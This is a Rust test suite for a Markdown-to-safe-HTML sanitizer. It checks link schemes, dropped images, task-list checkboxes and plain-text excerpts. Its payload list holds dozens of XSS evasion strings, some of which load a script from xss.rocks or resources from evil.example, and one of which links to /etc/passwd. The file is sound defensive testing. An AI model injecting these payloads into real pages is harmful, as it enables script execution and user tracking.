use super::*;

/// Classic payloads (OWASP XSS filter evasion cheat sheet and friends), raw and inside
/// Markdown constructs.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](/relative/path)",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png \"t\")",
    "![x](x\" onerror=\"alert(1))",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<script>**alert(1)**</script>**",
    "<scr<script>ipt>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "[ok](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    // Task lists and inputs: only the generated disabled checkbox may appear.
    "<input onfocus=alert(1) autofocus>",
    "<input type=\"text\" value=\"x\" onfocus=\"alert(1)\">",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "- [x] <img src=x onerror=alert(1)>",
    "- [x] [done](javascript:alert(1))",
    "* [ ] <script>alert(1)</script>\n* [X] ok",
    "- [ ]<svg onload=alert(1)>",
    "1. [x] <input form=f formaction=javascript:alert(1) type=submit>",
    "- [ ] `<input onfocus=alert(1)>`",
    "> - [x] <details open ontoggle=alert(1)>",
];

fn assert_safe(html: &str, payload: &str) {
    let lower = html.to_ascii_lowercase();
    // Payload text may survive, but only escaped: never as a tag or an attribute.
    for tag in [
        "script", "img", "svg", "iframe", "object", "style", "meta", "form", "body", "details",
        "math", "button", "textarea", "select",
    ] {
        assert!(
            !lower.contains(&format!("<{tag}")),
            "<{tag} in {html:?} from {payload:?}"
        );
    }
    for inside in lower
        .split('<')
        .skip(1)
        .map(|t| t.split('>').next().unwrap_or_default())
    {
        // Attribute names only: drop the quoted values (ammonia always quotes and escapes).
        let names: String = inside.split('"').step_by(2).collect();
        if let Some(attrs) = names.strip_prefix("input") {
            // Only the task-list checkbox: type="checkbox", disabled, maybe checked.
            let mut attrs: Vec<&str> = attrs
                .split_whitespace()
                .map(|a| a.trim_end_matches('/').trim_end_matches('='))
                .filter(|a| !a.is_empty())
                .collect();
            attrs.sort_unstable();
            assert!(
                attrs == ["disabled", "type"] || attrs == ["checked", "disabled", "type"],
                "unexpected input <{inside}> from {payload:?}"
            );
            assert!(
                inside.contains("type=\"checkbox\"") && inside.contains("disabled=\"\""),
                "input that is not a disabled checkbox: <{inside}> from {payload:?}"
            );
        }
        assert!(
            !names.contains(" on"),
            "handler in <{inside}> from {payload:?}"
        );
        assert!(
            !names.contains("style="),
            "style in <{inside}> from {payload:?}"
        );
        assert!(
            !names.contains("src="),
            "src in <{inside}> from {payload:?}"
        );
        if let Some(href) = inside.split("href=\"").nth(1) {
            assert!(
                href.starts_with("https://")
                    || href.starts_with("http://")
                    || href.starts_with("mailto:"),
                "unsafe href in <{inside}> from {payload:?}"
            );
        }
    }
}

#[test]
fn xss_payloads_are_neutralised() {
    for payload in PAYLOADS {
        assert_safe(&to_safe_html(payload), payload);
        let nested = format!("# Title\n\n- item {payload}\n\n{payload}\n");
        assert_safe(&to_safe_html(&nested), payload);
    }
}

#[test]
fn raw_html_shows_as_text() {
    let html = to_safe_html("Hello <script>alert(1)</script> and <b>bold</b>");
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
    assert!(html.contains("&lt;b&gt;bold&lt;/b&gt;"), "{html}");
    let html = to_safe_html("<img src=x onerror=alert(1)>");
    assert!(
        html.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "{html}"
    );
}

#[test]
fn markdown_still_renders() {
    let html =
        to_safe_html("# Title\n\n**bold** _it_ ~~old~~\n\n- a\n- b\n\n| x |\n|---|\n| 1 |\n");
    for want in [
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<em>it</em>",
        "<del>old</del>",
        "<li>a</li>",
        "<td>1</td>",
    ] {
        assert!(html.contains(want), "{want} missing in {html}");
    }
}

#[test]
fn links_get_rel_and_only_safe_schemes() {
    let html = to_safe_html("[site](https://example.org/a?b=1) [mail](mailto:a@example.org)");
    assert!(
        html.contains("<a href=\"https://example.org/a?b=1\" rel=\"noopener noreferrer\">site</a>"),
        "{html}"
    );
    assert!(html.contains("href=\"mailto:a@example.org\""), "{html}");
    let html = to_safe_html("[x](javascript:alert(1)) [y](/local)");
    assert!(!html.contains("href"), "{html}");
    assert!(html.contains(">x</a>") && html.contains(">y</a>"), "{html}");
}

#[test]
fn images_are_dropped() {
    let html = to_safe_html("before ![alt text](https://example.org/a.png) after");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("before") && html.contains("after"), "{html}");
}

#[test]
fn escapes() {
    let md = escape_inline("C# <b>*x*</b> [a](b) & _y_ \\ `z`");
    let html = to_safe_html(&format!("# {md}"));
    assert_eq!(
        html.trim(),
        "<h1>C# &lt;b&gt;*x*&lt;/b&gt; [a](b) &amp; _y_ \\ `z`</h1>"
    );
    assert_eq!(to_safe_html("Tandem #").trim(), "<p>Tandem #</p>");
    let md = escape_inline("Tandem #");
    assert_eq!(to_safe_html(&format!("# {md}")).trim(), "<h1>Tandem #</h1>");
    assert_eq!(escape_block("a <b> c"), "a \\<b> c");
    assert_eq!(
        escape_html("<a href=\"x\">&'"),
        "&lt;a href=&quot;x&quot;&gt;&amp;&#39;"
    );
}

#[test]
fn task_lists_render_as_disabled_checkboxes() {
    let html = to_safe_html("- [x] done\n- [ ] open\n- plain");
    assert_eq!(
        html,
        "<ul>\n<li><input type=\"checkbox\" disabled=\"\" checked=\"\">\ndone</li>\n\
         <li><input type=\"checkbox\" disabled=\"\">\nopen</li>\n<li>plain</li>\n</ul>\n"
    );
    let inputs: Vec<&str> = html.split("<input").skip(1).collect();
    assert_eq!(inputs.len(), 2, "{html}");
    assert!(inputs[0].contains("checked"), "{html}");
    assert!(!inputs[1].contains("checked"), "{html}");
    for input in inputs {
        assert!(input.contains("type=\"checkbox\""), "{html}");
        assert!(input.contains("disabled"), "{html}");
    }
    assert!(html.contains("done") && html.contains("open") && html.contains("plain"));
    assert_safe(&html, "task list");
}

#[test]
fn typed_inputs_stay_text() {
    for raw in [
        "<input onfocus=alert(1) autofocus>",
        "- [ ] <input type=text onfocus=alert(1)>",
    ] {
        let html = to_safe_html(raw);
        assert!(html.contains("&lt;input"), "{html}");
        assert_safe(&html, raw);
        // Only the task-list marker itself becomes an element.
        assert_eq!(
            html.matches("<input").count(),
            usize::from(raw.starts_with('-'))
        );
    }
}

#[test]
fn plain_text_strips_markdown() {
    let md = "# Title\n\n**bold** and _it_ with [a link](https://example.org) and `code`\n\n- [x] done\n- item\n\n<b>raw</b>";
    assert_eq!(
        to_plain_text(md, 280),
        "Title bold and it with a link and code done item <b>raw</b>"
    );
    assert_eq!(to_plain_text("", 280), "");
    assert_eq!(to_plain_text("   \n\n  ", 280), "");
    assert_eq!(
        to_plain_text(
            "I **check the sources**. See [the memo](https://example.org)!",
            280
        ),
        "I check the sources. See the memo!"
    );
}

#[test]
fn plain_text_is_cut_at_a_word_boundary() {
    let md = "Lorem ipsum dolor sit amet consectetur";
    assert_eq!(to_plain_text(md, 16), "Lorem ipsum…");
    assert_eq!(to_plain_text(md, 12), "Lorem ipsum…");
    assert_eq!(to_plain_text(md, 100), md);
    assert_eq!(to_plain_text("Donaudampfschifffahrt", 8), "Donauda…");
    let long = "Wort ".repeat(10_000);
    let excerpt = to_plain_text(&long, 280);
    assert!(excerpt.chars().count() <= 280, "{excerpt}");
    assert!(excerpt.ends_with("Wort…"), "{excerpt}");
    let umlauts = "ä".repeat(500);
    assert_eq!(to_plain_text(&umlauts, 10).chars().count(), 10);
}

#[test]
fn inputs_inside_attribute_values_are_left_alone() {
    let html = to_safe_html("[x](https://a.example \"<input checked> >\")\n\n- [ ] y");
    assert_eq!(html.matches("<input").count(), 1, "{html}");
    assert!(
        html.contains("title=\"&lt;input checked&gt; &gt;\""),
        "{html}"
    );
    assert_safe(&html, "title");
    let html = to_safe_html("- [ ] [x](https://a.example \"<input checked>\")");
    assert!(
        html.starts_with("<ul>\n<li><input type=\"checkbox\" disabled=\"\">\n<a "),
        "{html}"
    );
}

#[test]
fn a_typed_line_break_stays_a_line_break() {
    assert_eq!(
        to_safe_html("Monthly, one hour\nOnline on Teams"),
        "<p>Monthly, one hour<br>\nOnline on Teams</p>\n"
    );
    assert_eq!(
        to_safe_html("one\n\ntwo"),
        "<p>one</p>\n<p>two</p>\n",
        "a blank line still starts a paragraph"
    );
}
